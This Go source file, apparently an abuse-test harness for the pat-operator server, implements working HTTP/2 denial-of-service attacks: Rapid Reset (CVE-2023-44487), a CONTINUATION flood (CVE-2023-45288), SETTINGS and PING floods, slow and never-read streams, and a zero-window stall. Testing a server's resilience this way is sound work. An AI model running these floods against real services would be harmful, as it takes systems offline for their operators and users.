/*
Copyright 2026 The pat-operator Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package abuse

import (
	"bytes"
	"context"
	"io"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2 is a raw HTTP/2 connection, on which nothing keeps a client from doing what it must not.
type h2 struct {
	*http2.Framer
	headers []byte
	stream  uint32
	ended   chan struct{}
	close   func()
}

// openH2 opens a connection whose answers are read and thrown away, unless they are not to be read at all.
func openH2(ctx context.Context, t Target, read bool, settings ...http2.Setting) (*h2, error) {
	conn, closeConn, err := t.open(ctx, "h2")
	if err != nil {
		return nil, err
	}
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, f := range [][2]string{
		{":method", "POST"}, {":scheme", "https"}, {":authority", "pat-operator"}, {":path", t.path()},
		{"content-type", "application/json"},
	} {
		// Never indexed, so that the same bytes can be sent again.
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
	}
	c := &h2{Framer: http2.NewFramer(conn, conn), headers: block.Bytes(), stream: 1, ended: make(chan struct{})}
	var reading sync.WaitGroup
	if read {
		reading.Go(func() {
			defer close(c.ended)
			_, _ = io.Copy(io.Discard, conn)
		})
	}
	c.close = func() { closeConn(); reading.Wait() }
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		c.close()
		return nil, err
	}
	if err := c.WriteSettings(settings...); err != nil {
		c.close()
		return nil, err
	}
	return c, nil
}

// open begins another stream.
func (c *h2) open(endHeaders, endStream bool) (id uint32, err error) {
	id = c.stream
	c.stream += 2
	return id, c.WriteHeaders(http2.HeadersFrameParam{
		StreamID: id, BlockFragment: c.headers, EndHeaders: endHeaders, EndStream: endStream})
}

// flood opens connections and takes a step on each, again and again, until the server has had enough of it.
func (t Target) flood(ctx context.Context, step func(*h2) error) {
	t.workers(ctx, 4, func(ctx context.Context) error {
		c, err := openH2(ctx, t, true)
		if err != nil {
			return err
		}
		defer c.close()
		for ctx.Err() == nil {
			if err := step(c); err != nil {
				return nil
			}
		}
		return nil
	})
}

// rapidReset opens streams and takes each back at once (CVE-2023-44487).
func rapidReset(ctx context.Context, t Target, done *Done) {
	t.flood(ctx, func(c *h2) error {
		id, err := c.open(true, false)
		if err != nil {
			return err
		}
		done.Count.Add(1)
		return c.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// continuations never end the headers of a stream (CVE-2023-45288).
func continuations(ctx context.Context, t Target, done *Done) {
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for range 200 {
		_ = enc.WriteField(hpack.HeaderField{Name: "x-more", Value: "0123456789012345678901234567890123456789", Sensitive: true})
	}
	t.flood(ctx, func(c *h2) error {
		id, err := c.open(false, false)
		for err == nil {
			done.Count.Add(1)
			err = c.WriteContinuation(id, false, block.Bytes())
		}
		return err
	})
}

func settings(ctx context.Context, t Target, done *Done) {
	t.flood(ctx, func(c *h2) error {
		done.Count.Add(1)
		return c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16})
	})
}

func pings(ctx context.Context, t Target, done *Done) {
	t.flood(ctx, func(c *h2) error {
		done.Count.Add(1)
		return c.WritePing(false, [8]byte{})
	})
}

// slowStreams opens as many streams as it may and never ends a body.
func slowStreams(ctx context.Context, t Target, done *Done) {
	t.workers(ctx, 20, func(ctx context.Context) error {
		c, err := openH2(ctx, t, true)
		if err != nil {
			return err
		}
		defer c.close()
		for range 100 {
			id, err := c.open(true, false)
			if err != nil {
				return nil
			}
			if err := c.WriteData(id, false, []byte("{")); err != nil {
				return nil
			}
			done.Count.Add(1)
		}
		c.wait(ctx)
		return nil
	})
}

// noWindow asks, and lets the server send no answer.
func noWindow(ctx context.Context, t Target, done *Done) {
	t.workers(ctx, 20, func(ctx context.Context) error {
		c, err := openH2(ctx, t, true, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			return err
		}
		defer c.close()
		for range 100 {
			if err := c.ask(unknown()); err != nil {
				return nil
			}
			done.Count.Add(1)
		}
		c.wait(ctx)
		return nil
	})
}

// neverReadStreams asks for as long as it may, and takes no byte.
func neverReadStreams(ctx context.Context, t Target, done *Done) {
	t.workers(ctx, 20, func(ctx context.Context) error {
		c, err := openH2(ctx, t, false)
		if err != nil {
			return err
		}
		defer c.close()
		for {
			if err := c.ask(unknown()); err != nil {
				return nil
			}
			done.Count.Add(1)
		}
	})
}

// ask posts a review.
func (c *h2) ask(bearer string) error {
	id, err := c.open(true, false)
	if err != nil {
		return err
	}
	return c.WriteData(id, true, []byte(ReviewOf(bearer)))
}

// wait holds a connection until the server ends it.
func (c *h2) wait(ctx context.Context) {
	select {
	case <-ctx.Done():
	case <-c.ended:
	case <-time.After(time.Minute):
	}
}
